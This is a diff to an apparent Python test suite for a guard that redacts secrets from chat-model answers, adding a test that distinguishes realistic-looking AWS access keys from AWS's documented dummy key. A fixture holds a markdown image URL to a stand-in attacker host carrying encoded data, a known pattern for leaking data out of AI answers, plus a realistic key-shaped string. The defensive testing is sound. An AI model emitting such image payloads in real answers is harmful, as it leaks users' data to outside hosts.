@@ -23,7 +23,8 @@ from bastion.wire.sse import SseEvent, SseParser
 
 CANARY = "CANARY-7f3a9b21"
 EMAIL = "ann.lee@contoso-example.com"
-AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
+AWS_KEY = "AKIA" + "Q3EGRTZ5LXKW7NUC"  # an access key id shape, not a documented dummy
+DUMMY_KEY = "AKIAIOSFODNN7EXAMPLE"  # AWS's documentation example
 IMAGE = "![chart](https://evil.example.net/pixel.png?q=c2VjcmV0)"
 KEYRING = Keyring.generate()
 CONFIG = DetectorsConfig.model_validate(
@@ -105,6 +106,16 @@ def test_tool_call_arguments_stay_valid_json(arguments: str, expected: dict[str,
     guard().apply_json(answer)
     rewritten = answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
     assert json.loads(rewritten) == expected
+
+
+@pytest.mark.parametrize("dummies", [False, True], ids=["by-default", "asked-for"])
+def test_documented_dummies_in_answers_only_meet_rules_that_ask(dummies: bool) -> None:
+    answer = chat_answer(f"Configure boto3 with {DUMMY_KEY}, then use your own {AWS_KEY}.")
+    rule = ("secret.*", OutputAction("redact", "out.secrets", dummies=dummies))
+    guard(plan(rule)).apply_json(answer)
+    content = answer["choices"][0]["message"]["content"]
+    assert AWS_KEY not in content  # a real one is always redacted
+    assert (DUMMY_KEY in content) is not dummies
 
 
 @settings(max_examples=60, deadline=None)
